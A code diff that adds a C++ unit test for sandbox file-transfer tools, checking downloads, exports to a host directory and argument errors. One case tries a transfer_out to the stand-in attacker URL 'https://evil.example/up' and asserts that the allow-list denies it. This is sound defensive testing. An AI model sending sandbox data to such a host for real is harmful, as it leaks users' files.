@@ -203,6 +203,73 @@ TEST(McpTools, CommandsAndFiles) {
   EXPECT_EQ(textOf(listed), "/home/user (2 entries)\ndir\t-\tdata/\nfile\t3\tz.txt\n");
 }
 
+TEST(McpTools, TransfersInAndOutAnswerTheRecord) {
+  Fake fake;
+  fake.server.on("POST", kBase + "/transfers", [](const RecordedRequest& req, Responder& r) {
+    auto body = req.json();
+    Json record = {{"type", "transfer"},
+                   {"id", "tr-1"},
+                   {"direction", body["direction"]},
+                   {"plugin", "http"},
+                   {"location", "https://data.example.com/iris.tar.gz?..."},
+                   {"sandbox_path", body["path"]},
+                   {"files", 3},
+                   {"dirs", 1},
+                   {"links", 0},
+                   {"bytes", 4096},
+                   {"archive_bytes", 812},
+                   {"sha256", std::string(64, 'a')},
+                   {"ms", 41.5},
+                   {"status", "ok"},
+                   {"error", nullptr}};
+    if (body.value("dest", "") == "https://evil.example/up") {
+      record["status"] = "denied";
+      record["error"] = "URL 'https://evil.example/up' matches no transfer.http.allow pattern";
+      record["sha256"] = nullptr;
+    }
+    r.beginChunked(200);
+    r.chunk(R"({"type":"progress","transfer_id":"tr-1","bytes":812,"rate_bps":100})"
+            "\n");
+    r.chunk(record.dump() + "\n");
+    r.endChunked();
+  });
+  SandboxTools tools(fake.options());
+  auto in = tools.call("transfer_in", {{"source", "https://data.example.com/iris.tar.gz?sig=x"},
+                                       {"path", "/home/user/data"}});
+  EXPECT_EQ(in["isError"], false) << textOf(in);
+  EXPECT_EQ(fake.server.last().json(),
+            (Json{{"direction", "in"},
+                  {"source", "https://data.example.com/iris.tar.gz?sig=x"},
+                  {"path", "/home/user/data"}}));
+  EXPECT_EQ(textOf(in),
+            "transfer tr-1 ok: unpacked 3 files, 1 directories, 0 links (4096 bytes) from "
+            "https://data.example.com/iris.tar.gz?... into /home/user/data in sandbox " +
+                std::string(kId) + "\narchive: 812 bytes, sha256 " + std::string(64, 'a') + "\n");
+  EXPECT_EQ(in["structuredContent"]["files"], 3);
+  EXPECT_EQ(in["structuredContent"]["sandbox_path"], "/home/user/data");
+  EXPECT_EQ(in["structuredContent"]["status"], "ok");
+  EXPECT_EQ(fake.creates, 1) << "ran in the default sandbox";
+
+  auto out = tools.call(
+      "transfer_out",
+      {{"dest", "hostdir:results/r.tar.gz"}, {"path", "/home/user/results"}, {"sandbox_id", kId}});
+  EXPECT_EQ(out["isError"], false) << textOf(out);
+  EXPECT_EQ(fake.server.last().json()["dest"], "hostdir:results/r.tar.gz");
+  EXPECT_NE(textOf(out).find("packed 3 files"), std::string::npos) << textOf(out);
+  EXPECT_EQ(out["structuredContent"]["direction"], "out");
+
+  auto denied =
+      tools.call("transfer_out", {{"dest", "https://evil.example/up"}, {"path", "/home/user/r"}});
+  EXPECT_EQ(denied["isError"], true);
+  EXPECT_EQ(textOf(denied),
+            "transfer out 'https://evil.example/up' from /home/user/r: denied: URL "
+            "'https://evil.example/up' matches no transfer.http.allow pattern");
+
+  auto missing = tools.call("transfer_in", {{"source", "hostdir:data/x"}});
+  EXPECT_EQ(missing["isError"], true);
+  EXPECT_EQ(textOf(missing), "invalid arguments for transfer_in: missing required argument 'path'");
+}
+
 TEST(McpTools, CreatedSandboxesAreAddressableAndEndWithTheSession) {
   Fake fake;
   fake.server.json("GET", "/v1/sandboxes/00000000000000e2", 200,
